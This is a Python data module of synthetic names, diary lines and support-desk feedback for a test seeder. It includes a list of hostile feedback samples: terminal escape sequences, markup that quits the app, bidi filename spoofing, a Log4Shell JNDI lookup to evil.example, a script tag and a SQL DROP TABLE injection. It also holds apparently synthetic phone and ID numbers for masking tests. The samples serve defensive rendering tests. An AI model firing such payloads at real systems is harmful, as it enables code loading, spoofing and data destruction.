"""Word pools the seeder draws synthetic people and feedback from."""

from __future__ import annotations

# (hanzi, pinyin): pinyin builds the email and username of Chinese-speaking accounts.
ZH_SURNAMES = (
    ("王", "wang"), ("李", "li"), ("张", "zhang"), ("刘", "liu"), ("陈", "chen"), ("杨", "yang"),
    ("赵", "zhao"), ("黄", "huang"), ("周", "zhou"), ("吴", "wu"), ("徐", "xu"), ("孙", "sun"),
    ("胡", "hu"), ("朱", "zhu"), ("高", "gao"), ("林", "lin"), ("何", "he"), ("郭", "guo"),
    ("马", "ma"), ("罗", "luo"), ("欧阳", "ouyang"), ("司马", "sima"),
)  # fmt: skip
ZH_GIVEN = (
    ("伟", "wei"), ("芳", "fang"), ("娜", "na"), ("敏", "min"), ("静", "jing"), ("丽", "li"),
    ("强", "qiang"), ("磊", "lei"), ("军", "jun"), ("洋", "yang"), ("勇", "yong"), ("艳", "yan"),
    ("杰", "jie"), ("娟", "juan"), ("涛", "tao"), ("明", "ming"), ("超", "chao"), ("秀英", "xiuying"),
    ("霞", "xia"), ("平", "ping"), ("刚", "gang"), ("桂英", "guiying"), ("子涵", "zihan"), ("欣怡", "xinyi"),
    ("梓萱", "zixuan"), ("浩然", "haoran"), ("宇轩", "yuxuan"), ("雨桐", "yutong"),
)  # fmt: skip
ZH_NICKNAMES = ("小", "阿", "大", "老")
ZH_DOMAINS = ("qq.com", "163.com", "126.com", "sina.com", "foxmail.com", "outlook.com")

EN_FIRST = (
    "James", "Mary", "John", "Patricia", "Robert", "Jennifer", "Michael", "Linda", "William", "Elizabeth",
    "David", "Barbara", "Richard", "Susan", "Joseph", "Jessica", "Thomas", "Sarah", "Charles", "Karen",
    "Olivia", "Noah", "Emma", "Liam", "Ava", "Lucas", "Mia", "Ethan", "Zoe", "Chloé", "Zoë", "José",
)  # fmt: skip
EN_LAST = (
    "Smith", "Johnson", "Williams", "Brown", "Jones", "Garcia", "Miller", "Davis", "Rodriguez", "Martinez",
    "Wilson", "Anderson", "Taylor", "Thomas", "Moore", "Jackson", "Martin", "Lee", "O'Brien", "Nguyen",
)  # fmt: skip
EN_DOMAINS = ("gmail.com", "outlook.com", "yahoo.com", "icloud.com", "proton.me", "example.org")

PAYMENT_PROVIDERS = ("alipay", "wechat_pay", "paypal", "stripe")

DIARY_ZH = ("今天天气很好，去公园散步了。", "工作有点累，但是学到了很多。", "和朋友一起吃了火锅。", "读完了一本书。")
DIARY_EN = ("Went for a run by the river.", "Long day at work.", "Cooked dinner for the family.", "Finished a book.")

FEEDBACK_ZH = (
    "应用很好用，谢谢！",
    "退款申请一直没有回复，请尽快处理。",
    "图片上传总是失败。",
    "希望增加夜间模式。",
    "我想删除我的账号，怎么操作？",
    "日记同步到手机后顺序乱了。",
    "登录时验证码收不到。",
    "孩子用了这个应用，我作为家长要求删除他的信息。",
)
FEEDBACK_EN = (
    "Love the app, thank you!",
    "My refund request has had no answer for two weeks.",
    "Image upload keeps failing on Android.",
    "Please add a dark mode.",
    "How do I delete my account and all my data?",
    "Diary entries show up in the wrong order after sync.",
    "I never receive the login code by email.",
    "Please correct my birthday, it was entered wrongly.",
)

# Text that would do harm if a terminal or a markup parser interpreted it. Every sample is seeded at least once.
HOSTILE_FEEDBACK = (
    "[@click=app.quit]Click here for a refund[/]",
    "[bold red blink]URGENT[/] [link=https://evil.example]verify your account[/link]",
    "Refund please \x1b[2J\x1b[H\x1b[31mSYSTEM HACKED\x1b[0m",
    "\x1b]8;;https://evil.example/\x1b\\harmless link\x1b]8;;\x1b\\ in an OSC 8 hyperlink",
    "\x1b]0;pwned terminal title\x07set your title",
    "NUL byte here:\x00 and after it",
    "bidi override: \u202egpj.exe\u202c looks like a picture",
    "isolate \u2066admin\u2069 and \u2067رتب\u2069 mixed direction",
    "DEL\x7f and C1 \x9b31m control characters",
    "退款[@click=app.quit]点这里[/]谢谢\x1b[5m",
    "${jndi:ldap://evil.example/a} <script>alert(1)</script> '; DROP TABLE ticket;--",
)

# Personal data people type into feedback unasked: the desk masks it (domain.feedback_masking).
PERSONAL_FEEDBACK = (
    "我的手机号是13812345678，请尽快联系我。",
    "请回复到 zhang.wei88@qq.com 或者打 +86 139 8765 4321",
    "身份证号11010519491231002X，帮我找回账号",
    "Call me on +44 20 7946 0958 or write to jane.doe@example.org",
    "My ID card number is 440308199901012345, please verify me",
)
APP_PLATFORMS = ("android", "ios")
APP_VERSIONS = ("3.2.0", "3.2.1", "3.3.0", "3.4.0")
